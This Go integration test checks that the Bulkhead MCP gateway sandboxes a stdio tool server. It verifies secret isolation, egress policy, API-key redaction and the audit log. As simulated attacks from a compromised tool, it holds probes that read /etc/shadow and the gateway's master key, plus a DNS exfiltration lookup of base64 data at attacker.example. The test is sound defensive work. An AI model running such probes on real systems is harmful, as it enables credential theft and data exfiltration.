package server_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/bulkhead-dev/bulkhead/api"
	"github.com/bulkhead-dev/bulkhead/internal/audit"
	"github.com/bulkhead-dev/bulkhead/internal/gateway"
	"github.com/bulkhead-dev/bulkhead/internal/gateway/gatewaytest"
)

// A stdio MCP server spawned by the gateway: reachable only through the
// gateway (it has no socket), authorized per call like any other, and it
// sees only the environment the configuration gives it — not the
// gateway's, where secrets might live.
func TestGatewayStdioServer(t *testing.T) {
	t.Setenv("GATEWAY_ONLY_SECRET", "must-not-leak")
	cmd, env, bin := gatewaytest.SandboxedStdioCommand(t)
	// Egress: one destination listed, one not.
	answer := func(s string) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, s) })
	}
	allowed, allowedTLS, other := httptest.NewServer(answer("allowed")), httptest.NewTLSServer(answer("allowed over tls")), httptest.NewServer(answer("other"))
	unpermitted := httptest.NewServer(answer("unpermitted"))
	// An API that wants a key the tool must never hold: the proxy adds it,
	// and anything that echoes it back is redacted.
	const apiKey = "api-key-the-tool-never-sees"
	keyed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+apiKey {
			http.Error(w, "no key", http.StatusUnauthorized)
			return
		}
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprint(w, "keyed ok, you sent "+r.Header.Get("Authorization"))
	}))
	for _, s := range []*httptest.Server{allowed, allowedTLS, other, unpermitted, keyed} {
		defer s.Close()
	}
	hostOf := func(s *httptest.Server) string {
		return strings.TrimPrefix(strings.TrimPrefix(s.URL, "https://"), "http://")
	}
	quote := func(ss []string) string {
		q := make([]string, len(ss))
		for i, s := range ss {
			q[i] = fmt.Sprintf("%q", s)
		}
		return "[" + strings.Join(q, ", ") + "]"
	}
	e := startGateway(t, `  - name: notes
    mcp: { command: `+quote(cmd)+`, env: `+quote(append(env, "NOTES_MODE=test"))+`, sandbox: { read: [`+bin+`], egress: [`+hostOf(allowed)+`, `+hostOf(allowedTLS)+`, `+hostOf(unpermitted)+`, `+hostOf(keyed)+`],
      egress_credentials: { "`+hostOf(keyed)+`": { header: Authorization, secret: api-key } } } }
    callers: ["spiffe://bulkhead.local/agent/*"]
`)
	ctx := context.Background()
	if _, err := e.Operator.SetSecret(ctx, "api-key", []byte(apiKey)); err != nil {
		t.Fatal(err)
	}
	// Catalog the notes server and let readers use it.
	cat, err := e.Operator.Tools(ctx)
	if err != nil {
		t.Fatal(err)
	}
	cat.Servers = append(cat.Servers, api.ToolServer{Name: "notes", Sensitivity: "low", Tools: []api.ToolEntry{{Name: "note"}, {Name: "whoami"}},
		Hosts: []api.ToolEntry{{Name: hostOf(allowed)}, {Name: hostOf(allowedTLS)}, {Name: hostOf(other)}, {Name: hostOf(unpermitted)}, {Name: hostOf(keyed)}}})
	if _, err := e.Operator.ApplyTools(ctx, cat); err != nil {
		t.Fatal(err)
	}
	versions, err := e.Operator.PolicyVersions(ctx)
	if err != nil {
		t.Fatal(err)
	}
	live, err := e.Operator.PolicyVersion(ctx, fmt.Sprint(versions.State.Live))
	if err != nil {
		t.Fatal(err)
	}
	files := append(live.Files, api.PolicyFile{Name: "notes.cedar", Content: `@id("reader-notes")
permit (principal in Role::"reader", action == Action::"call_tool", resource == Tool::"notes/note");
@id("reader-notes-egress")
permit (principal in Role::"reader", action == Action::"connect", resource in ToolServer::"notes")
unless { resource == Host::"notes/` + hostOf(unpermitted) + `" };`})
	if _, err := e.Operator.ApplyPolicy(ctx, api.PolicyApplyRequest{Files: files}); err != nil {
		t.Fatal(err)
	}

	hc, _ := e.agentHTTP(t, "alpha", "reader")
	cs := e.MCP(t, hc, "notes")
	res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "note", Arguments: map[string]any{"query": "hello"}})
	if err != nil || textOf(res) != "noted: hello" {
		t.Fatalf("note through the gateway: %v %v", err, res)
	}
	// whoami is not permitted: denied before it reaches the process.
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami"}); err == nil || !strings.Contains(err.Error(), "denied by policy") {
		t.Fatalf("whoami: %v", err)
	}
	// Allow it for a moment to read the environment the tool sees.
	files = append(files, api.PolicyFile{Name: "whoami.cedar", Content: `@id("reader-whoami")
permit (principal in Role::"reader", action == Action::"call_tool", resource == Tool::"notes/whoami");`})
	if _, err := e.Operator.ApplyPolicy(ctx, api.PolicyApplyRequest{Files: files}); err != nil {
		t.Fatal(err)
	}
	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "env"}})
	if err != nil {
		t.Fatalf("whoami once permitted: %v", err)
	}
	envText := textOf(res)
	if !strings.Contains(envText, "NOTES_MODE=test") || strings.Contains(envText, "must-not-leak") || strings.Contains(envText, os.Getenv("HOME")+"\n") && os.Getenv("HOME") != "" {
		t.Fatalf("the tool's environment:\n%s", envText)
	}
	// A compromised tool reaches for the control plane's keys, the
	// host's secrets and PostgreSQL: the sandbox (strict profile plus its
	// own directory) has none of them.
	for _, probe := range []string{"read:" + e.DataDir + "/master.key", "read:" + e.DataDir + "/bulkhead.db", "read:/etc/shadow",
		"connect:127.0.0.1:5432", "connect:" + strings.TrimPrefix(e.URL, "https://")} {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": probe}})
		if err != nil {
			t.Fatal(err)
		}
		if out := textOf(res); !strings.Contains(out, "no such file") && !strings.Contains(out, "permission denied") {
			t.Fatalf("the sandboxed tool got through: %s: %s", probe, out)
		} else {
			t.Logf("%s: %s", probe, out)
		}
	}
	// Its only way out is the gateway's egress proxy: to a destination
	// its sandbox lists and the policy lets the agent reach, each
	// connection decided and recorded with the agent.
	for _, c := range []struct{ url, want string }{
		{allowed.URL + "/x", "fetch: 200 allowed"},
		{allowedTLS.URL + "/x", "fetch: 200 allowed over tls"},
		{other.URL + "/x", "fetch: 403 destination"},            // not in the sandbox's list
		{unpermitted.URL + "/x", "fetch: 403 denied by policy"}, // listed, not permitted
		{keyed.URL + "/x", "fetch: 200 keyed ok, you sent Bearer [REDACTED]"},
	} {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "fetch:" + c.url}})
		if err != nil || !strings.HasPrefix(textOf(res), c.want) || strings.Contains(textOf(res), apiKey) {
			t.Fatalf("fetch %s: %v %q, want %q", c.url, err, textOf(res), c.want)
		}
	}
	egress, err := e.Server.Store().Events(ctx, audit.Query{AfterSeq: -1, Actions: []string{gateway.ActionEgress}})
	if err != nil || len(egress) != 5 {
		t.Fatalf("egress records: %d %v", len(egress), err)
	}
	for i, want := range []audit.Decision{audit.Allow, audit.Allow, audit.Deny, audit.Deny, audit.Allow} {
		ev, _ := audit.EventFromRow(egress[i])
		if ev.Decision != want || ev.Actor.ID != "spiffe://bulkhead.local/agent/alpha" {
			t.Fatalf("egress record %d: %+v", i, ev)
		}
	}
	// DNS is no way out either: a name that carries data resolves
	// nowhere, and the refusal is recorded with the agent.
	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "resolve:c2VjcmV0.attacker.example"}})
	if err != nil || !strings.Contains(textOf(res), "no such host") {
		t.Fatalf("resolve from the sandboxed tool: %v %s", err, textOf(res))
	}
	names, err := e.Server.Store().Events(ctx, audit.Query{AfterSeq: -1, Actions: []string{gateway.ActionResolve}})
	if err != nil || len(names) == 0 {
		t.Fatalf("refused-name records: %v %v", names, err)
	}
	if ev, err := audit.EventFromRow(names[0]); err != nil || ev.Actor.ID != "spiffe://bulkhead.local/agent/alpha" || ev.Detail["name"] != "c2vjcmv0.attacker.example" {
		t.Fatalf("refused-name record: %+v %v", ev, err)
	}
	// A refused system call is evidence: recorded, naming the agent whose
	// session made it, before the call returns.
	res, err = cs.CallTool(ctx, &mcp.CallToolParams{Name: "whoami", Arguments: map[string]any{"query": "ptrace"}})
	if err != nil || !strings.Contains(textOf(res), "operation not permitted") {
		t.Fatalf("ptrace from the sandboxed tool: %v %s", err, textOf(res))
	}
	rows, err := e.Server.Store().Events(ctx, audit.Query{AfterSeq: -1, Actions: []string{gateway.ActionSandboxViolation}})
	if err != nil || len(rows) != 1 {
		t.Fatalf("violation records: %v %v", rows, err)
	}
	ev, err := audit.EventFromRow(rows[0])
	if err != nil || ev.Actor.ID != "spiffe://bulkhead.local/agent/alpha" || ev.Detail["syscall"] != "ptrace" || ev.Target != `ToolServer::"notes"` {
		t.Fatalf("violation record: %+v %v", ev, err)
	}
	// Without the gateway there is nothing to connect to: the process has
	// no listener, and the gateway path requires mTLS and a token.
	resp, err := http.Post(e.GatewayURL+"/mcp/notes", "application/json", strings.NewReader(`{}`))
	if err == nil {
		resp.Body.Close()
		t.Fatal("plain HTTP reached the gateway")
	}
}
